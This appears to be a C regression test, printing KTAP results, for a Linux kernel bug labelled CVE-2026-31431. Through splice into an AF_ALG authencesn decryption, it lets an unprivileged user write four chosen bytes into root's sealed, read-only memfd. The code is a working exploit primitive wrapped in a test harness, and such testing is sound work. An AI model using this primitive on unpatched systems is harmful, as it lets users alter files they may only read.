/*
 * Who may read a memfd writes four bytes of it, whatever its seals: AF_ALG took the pages that are spliced to it as the end of
 * what it writes, and authencesn moves four bytes of the associated data there. Known as CVE-2026-31431, and mended; this
 * shows it of a sealed memfd.
 *
 *   gcc -Wall -Wextra -static -o crypto-writes-sealed crypto-writes-sealed.c && ./crypto-writes-sealed
 *
 * Run as root, whose memfd it is; who writes is user 1000. Prints KTAP; exits with 0 if the sealed memfd is written, with 1 if
 * not, with 4 without AF_ALG or authencesn.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/if_alg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <unistd.h>

#define PAGE 4096
#define TEXT "sealed to the end of time"
#define CHANGED "sealed to the enKNOT time" /* at 16: the tag begins there */
#define TAG 16                              /* bytes of the tag */
#define ALL_SEALS (F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE)

static int failed;

static void check(int holds, const char *text)
{
	static int number;

	failed |= !holds;
	printf("%sok %d %s\n", holds ? "" : "not ", ++number, text);
}

static void give_up(const char *what)
{
	printf("# %s: %s\n", what, strerror(errno));
	exit(4);
}

static int cipher_socket(void)
{
	struct sockaddr_alg name = {
		.salg_family = AF_ALG, .salg_type = "aead", .salg_name = "authencesn(hmac(sha256),cbc(aes))"
	};
	/* struct rtattr and struct crypto_authenc_key_param: 16 bytes of it are for cbc(aes), 32 for hmac(sha256) */
	static const unsigned char key[8 + 32 + 16] = { 8, 0, 1, 0, 0, 0, 0, 16 };
	int cipher = socket(AF_ALG, SOCK_SEQPACKET, 0);

	if (cipher < 0 || bind(cipher, (struct sockaddr *)&name, sizeof(name)))
		give_up("AF_ALG");
	if (setsockopt(cipher, SOL_ALG, ALG_SET_KEY, key, sizeof(key)) ||
	    setsockopt(cipher, SOL_ALG, ALG_SET_AEAD_AUTHSIZE, NULL, TAG))
		give_up("ALG_SET_KEY");
	return cipher;
}

static void *add(struct cmsghdr *part, int type, size_t length)
{
	part->cmsg_level = SOL_ALG;
	part->cmsg_type = type;
	part->cmsg_len = CMSG_LEN(length);
	return CMSG_DATA(part);
}

/* Eight bytes of associated data, of which the last four are moved, and that more is to come. */
static int begin(int operation, char associated[8])
{
	const size_t iv = sizeof(struct af_alg_iv) + 16;
	char control[CMSG_SPACE(sizeof(int)) + CMSG_SPACE(sizeof(struct af_alg_iv) + 16) + CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec source = { associated, 8 };
	struct msghdr message = { .msg_control = control, .msg_controllen = sizeof(control), .msg_iov = &source, .msg_iovlen = 1 };
	struct cmsghdr *part = CMSG_FIRSTHDR(&message);

	*(int *)add(part, ALG_SET_OP, sizeof(int)) = ALG_OP_DECRYPT;
	part = CMSG_NXTHDR(&message, part);
	((struct af_alg_iv *)add(part, ALG_SET_IV, iv))->ivlen = 16;
	part = CMSG_NXTHDR(&message, part);
	*(int *)add(part, ALG_SET_AEAD_ASSOCLEN, sizeof(int)) = 8;
	return sendmsg(operation, &message, MSG_MORE) == 8;
}

static int has(int fd, const char *text)
{
	char got[sizeof(TEXT)] = "?";

	return pread(fd, got, sizeof(got), 0) == sizeof(got) && !strcmp(got, text);
}

/* A descriptor, O_RDONLY, of a sealed memfd that nobody has another of. */
static int sealed_memfd(void)
{
	int fd = memfd_create("region", MFD_ALLOW_SEALING), reader;
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (fd < 0 || ftruncate(fd, PAGE) || pwrite(fd, TEXT, sizeof(TEXT), 0) != sizeof(TEXT) || fchmod(fd, 0444) ||
	    fcntl(fd, F_ADD_SEALS, ALL_SEALS))
		give_up("memfd_create");
	reader = open(path, O_RDONLY);
	close(fd);
	return reader;
}

int main(void)
{
	char associated[8] = "\0\0\0\0KNOT", output[8 + 16];
	int reader, operation, ends[2];
	struct utsname name;

	setvbuf(stdout, NULL, _IONBF, 0);
	uname(&name);
	printf("KTAP version 1\n# %s\n", name.release);
	if (geteuid() != 0) {
		printf("# needs root, whose memfd user 1000 may only read\n");
		return 4;
	}
	reader = sealed_memfd();
	if (setgroups(0, NULL) || setgid(1000) || setuid(1000))
		give_up("user 1000");
	operation = accept(cipher_socket(), NULL, NULL);
	if (operation < 0 || pipe(ends))
		give_up("accept");
	check(fcntl(reader, F_GET_SEALS) == ALL_SEALS && has(reader, TEXT), "root's memfd, mode 0444, has every seal");
	check(begin(operation, associated), "user 1000, O_RDONLY: sendmsg of 8 bytes of associated data to AF_ALG");
	check(splice(reader, &(off_t){ 0 }, ends[1], NULL, 16 + TAG, 0) == 16 + TAG &&
		      splice(ends[0], NULL, operation, NULL, 16 + TAG, 0) == 16 + TAG,
	      "splice of 32 bytes of the memfd to it, as the text and the tag");
	check(recv(operation, output, sizeof(output), 0) == -1 && errno == EBADMSG, "recv is EBADMSG: that is no tag");
	check(has(reader, CHANGED), "four bytes of the memfd are those that user 1000 chose");
	check(fcntl(reader, F_GET_SEALS) == ALL_SEALS, "it has every seal");
	printf("1..6\n");
	return failed;
}
